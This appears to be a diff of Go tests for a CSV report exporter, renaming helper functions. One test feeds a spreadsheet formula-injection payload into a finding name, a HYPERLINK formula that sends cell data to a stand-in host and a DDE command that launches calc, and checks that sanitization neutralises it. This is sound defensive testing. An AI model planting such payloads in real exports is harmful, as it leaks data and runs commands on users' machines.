@@ -25,7 +25,7 @@ func readCSV(t *testing.T, d *report.Document) []map[string]string {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if !slices.Equal(all[0], csvColumns()) {
+	if !slices.Equal(all[0], columns()) {
 		t.Errorf("header is %q", all[0])
 	}
 	var rows []map[string]string
@@ -69,7 +69,7 @@ func TestCSVCannotCalculate(t *testing.T) {
 	}
 	f := reporttest.NeverRefreshed()
 	f.Name = `=HYPERLINK("https://evil.example/?x="&A1)` + "\r\n\"=cmd|' /C calc'!A0"
-	row := csvFinding(report.Sanitized(&f), "new")
+	row := findingRow(report.Sanitized(&f), "new")
 	if got := harmlessCell(row["name"]); !strings.HasPrefix(got, "'=") || strings.ContainsAny(got, "\r\n") {
 		t.Errorf("the name becomes %q", got)
 	}
@@ -91,7 +91,7 @@ func FuzzCSVCell(f *testing.F) {
 func TestCSVDeployments(t *testing.T) {
 	f := reporttest.NeverRefreshed()
 	f.Deployments = []audit.Deployed{{Environment: "dev", Revision: "9"}, {Environment: "dev", Revision: "12"}, {Environment: "prod", Revision: "12"}}
-	if got := csvFinding(&f, "new")["environments"]; got != "dev, prod" {
+	if got := findingRow(&f, "new")["environments"]; got != "dev, prod" {
 		t.Errorf("environments are %q", got)
 	}
 }
@@ -116,7 +116,7 @@ func TestColumnsAreDocumented(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, name := range csvColumns() {
+	for _, name := range columns() {
 		if !strings.Contains(string(data), "`"+name+"`") {
 			t.Errorf("docs/formats.md lacks %s", name)
 		}
